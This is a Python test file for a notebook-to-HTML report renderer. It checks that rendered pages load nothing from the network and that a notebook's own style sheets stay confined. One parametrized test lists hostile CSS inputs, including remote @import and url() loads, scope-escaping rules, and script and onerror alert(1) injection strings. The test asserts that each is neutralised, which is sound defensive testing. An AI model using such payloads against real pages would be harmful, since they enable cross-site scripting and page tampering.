VALUES = st.one_of(
    TEXTS, st.lists(TEXTS, max_size=2), st.none(), st.integers(), st.dictionaries(st.text(max_size=3), st.integers())
)
OUTPUTS = st.one_of(
    st.fixed_dictionaries({"output_type": st.just("stream"), "name": TEXTS, "text": VALUES}),
    st.fixed_dictionaries({"output_type": st.just("error"), "ename": VALUES, "traceback": st.one_of(VALUES)}),
    st.fixed_dictionaries(
        {
            "output_type": st.sampled_from(("display_data", "execute_result", "else")),
            "data": st.dictionaries(KINDS, VALUES, max_size=3),
            "metadata": st.dictionaries(st.one_of(KINDS, st.sampled_from(("alt", "width"))), VALUES, max_size=2),
        }
    ),
)
CELLS = st.fixed_dictionaries(
    {"cell_type": st.sampled_from(("code", "markdown", "raw", "?")), "source": VALUES},
    optional={
        "outputs": st.lists(OUTPUTS, max_size=3),
        "metadata": st.dictionaries(st.sampled_from(("tags", "alt", "transient", "jupyter", "format")), VALUES),
        "attachments": st.dictionaries(TEXTS, VALUES, max_size=1),
        "execution_count": VALUES,
    },
)
METADATA = st.dictionaries(st.sampled_from(("title", "lang", "language_info", "widgets", "authors")), VALUES)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(cells=st.lists(CELLS, max_size=3), metadata=METADATA, template=st.sampled_from(TEMPLATES), hide=st.booleans())
def test_any_notebook_gives_a_harmless_page(
    cells: list[dict[str, Any]], metadata: dict[str, Any], template: str | None, hide: bool
) -> None:
    notebook = from_dict({"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5})
    found = reports.html(notebook, template=template, no_input=hide, folder=Path("/nowhere"))
    assert_offline(found)
    found.encode("utf-8")


# -- style sheets of the notebook's own ------------------------------------------------------------


def sheet(rules: str, **keywords: Any) -> str:
    return page(shows({"text/html": f"<style>{rules}</style><p class='card'>card</p>"}), **keywords)


@pytest.mark.parametrize(
    ("rules", "kept"),
    [
        (".card { color: red; padding: 1em }", ".card { color: red; padding: 1em }"),
        ("body, .a > html, :root .b, .bodyguard { margin: 0 }", "&, .a > &, & .b, .bodyguard { margin: 0 }"),
        ("@media print { .card { display: none } }", "@media print {\n.card { display: none }\n}"),
        (".card::before { content: 'x' !important }", '.card::before { content: "x" !important }'),
    ],
)
def test_a_notebook_may_bring_its_own_looks_for_its_own_parts(rules: str, kept: str) -> None:
    assert f"<style>#report-main {{\n{kept}\n}}</style>" in sheet(rules)


@pytest.mark.parametrize("template", TEMPLATES)
@pytest.mark.parametrize(
    "rules",
    [
        "@import 'https://example.org/a.css';",
        ".card { background: url(https://example.org/a.png) }",
        ".card { background: u\\72l(https://example.org/a.png) }",
        ".card { background: URL( 'https://example.org/a.png' ) }",
        ".card { background: image-set('https://example.org/a.png' 1x) }",
        "@font-face { font-family: x; src: url(https://example.org/a.woff) }",
        "} .report-footer { display: none } {",
        ".a { } } .report-footer { display: none",
        ".report-footer:not({}) { display: none }",
        ".card { position: fixed; } .card { position: STICKY }",
        ".card { content: '</style><script>alert(1)</script>' }",
        "@media print { } } .report-footer { display: none }",
        ".card { color: red; } /* </style><img src=x onerror=alert(1)>",
    ],
)
def test_a_style_sheet_can_neither_load_nor_escape(rules: str, template: str | None) -> None:
    found = sheet(rules, template=template)
    assert_offline(found)
    assert "onerror" not in found
    assert "alert(1)" not in found
    assert "position: fixed" not in found.lower().partition("<style>")[2].rpartition("report-main")[2]
    if template in (None, "report"):
        for rule in re.findall(r"<style>(.*?)</style>", found, re.DOTALL)[1:]:
            assert rule.startswith("#report-main {")
            assert rule.count("{") == rule.count("}")
            depth = list(itertools.accumulate({"{": 1, "}": -1}.get(each, 0) for each in rule))
            assert all(depth[rule.index("{") : -1])


def test_a_page_with_colours_of_its_own_stays_light() -> None:
    assert 'class="report-light"' in sheet(".card { color: #123 }")
    assert 'class="report-light"' not in sheet(".card { padding: 1em }")


def test_templates_are_found_where_nbconvert_was_installed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`pip install --user` and `--target` put them neither beside the interpreter nor where a sandbox's home is."""
    monkeypatch.setattr(sys, "prefix", str(tmp_path))
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("JUPYTER_PATH", raising=False)
    monkeypatch.setattr("jupyter_core.paths.ENV_JUPYTER_PATH", [str(tmp_path)])
    installed.share.cache_clear()
    try:
        assert (installed.share() / "nbconvert" / "templates" / "lab" / "index.html.j2").is_file()
    finally:
        installed.share.cache_clear()
